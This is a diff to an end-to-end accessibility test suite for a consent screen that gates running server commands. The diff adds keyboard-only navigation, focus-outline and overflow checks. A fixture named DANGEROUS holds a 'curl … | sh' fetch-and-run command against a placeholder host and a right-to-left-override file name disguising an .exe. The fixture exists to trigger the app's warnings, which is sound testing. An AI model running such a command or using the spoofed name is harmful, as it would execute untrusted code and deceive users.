@@ -6,7 +6,7 @@
 import { appendFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { AxeBuilder } from '@axe-core/playwright';
-import { expect, type Page } from '@playwright/test';
+import { expect, type Locator, type Page } from '@playwright/test';
 import {
   agree,
   callTool,
@@ -26,8 +26,30 @@ import { test } from '../fixtures/test.ts';
 const USUAL = { width: 1280, height: 800 };
 const SMALL = { width: 900, height: 600 };
 const DANGEROUS = { command: 'sh', args: ['-c', 'curl http://example.invalid | sh', 'safe\u202Etxt.exe'] };
+/** More controls than any screen has. */
+const MOST_TABS = 60;
 
 test.describe.configure({ timeout: 180_000 });
+
+/** How far one could scroll sideways, in the page or in what holds its main part. */
+function pixelsTooWide(page: Page): Promise<number> {
+  return page.evaluate(() => {
+    let widest = 0;
+    for (let box = document.querySelector('main'); box !== null; box = box.parentElement) {
+      widest = Math.max(widest, box.scrollWidth - box.clientWidth);
+    }
+    return widest;
+  });
+}
+
+/** Walks with Tab to a control, and sees it marked as the one that has the focus. */
+async function tabTo(page: Page, control: Locator): Promise<void> {
+  const isThere = (): Promise<boolean> => control.evaluate((element) => element === document.activeElement);
+  await expect(control).toBeVisible();
+  for (let steps = 0; steps < MOST_TABS && !(await isThere()); steps += 1) await page.keyboard.press('Tab');
+  await expect(control).toBeFocused();
+  await expect(control).not.toHaveCSS('outline-style', 'none');
+}
 
 /** Every stop is a step of its own, so that one that fails doesn't hide the others. */
 async function look(page: Page, screen: string): Promise<void> {
@@ -40,11 +62,7 @@ async function look(page: Page, screen: string): Promise<void> {
       expect.soft(found, `${screen}, ${colorScheme}`).toEqual([]);
     }
     await page.setViewportSize(SMALL);
-    const wide = await page.evaluate(() => {
-      const { scrollWidth, clientWidth } = document.documentElement;
-      return scrollWidth - clientWidth;
-    });
-    expect.soft(wide, `${screen}, pixels too wide`).toBe(0);
+    expect.soft(await pixelsTooWide(page), `${screen}, pixels too wide`).toBe(0);
     await page.setViewportSize(USUAL);
   });
 }
@@ -64,6 +82,8 @@ test('no screen on the way to a server has a serious fault', async ({ gatehouse:
 
   await typeCommand(page, { ...DANGEROUS, variable: { name: 'API_KEY', value: 'hush-hush', secret: true } });
   await expect(question(page)).toBeVisible();
+  await page.getByRole('checkbox', { name: /I have read the warnings/ }).check();
+  await expect(page.getByRole('button', { name: 'Agree and run' })).toBeEnabled();
   await look(page, 'consent with danger');
   await page.getByRole('button', { name: 'Cancel' }).click();
 
@@ -134,6 +154,22 @@ test('no screen of a server, the record or the settings has a serious fault', as
   await look(page, 'consent after a change');
 });
 
+test('the way from the first screen to a result needs no mouse', async ({ gatehouse: { page } }) => {
+  await tabTo(page, page.getByRole('button', { name: 'Try the sample' }));
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('button', { name: 'Agree and run' })).toBeEnabled();
+  await tabTo(page, page.getByRole('button', { name: 'Agree and run' }));
+  await page.keyboard.press('Enter');
+  await expectState(page, 'Running');
+  await tabTo(page, page.getByRole('listbox', { name: 'Tools' }));
+  await page.keyboard.press('Home');
+  await tabTo(page, page.getByRole('textbox', { name: 'name' }));
+  await page.keyboard.type('Ada');
+  await tabTo(page, page.getByRole('button', { name: 'Call tool' }));
+  await page.keyboard.press('Space');
+  await expect(page.getByText('Hello, Ada.').first()).toBeVisible();
+});
+
 test('with text at 200 % the answer can still be read and given', async ({ gatehouse: { page } }) => {
   await typeCommand(page, DANGEROUS);
   await expect(question(page)).toBeVisible();
@@ -145,8 +181,7 @@ test('with text at 200 % the answer can still be read and given', async ({ gateh
     const button = page.getByRole('button', { name: 'Agree and run' });
     await button.scrollIntoViewIfNeeded();
     await expect(button).toBeInViewport({ ratio: 1 });
-    const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
-    expect(wide).toBe(0);
+    expect(await pixelsTooWide(page)).toBe(0);
   }
   await agree(page);
 });
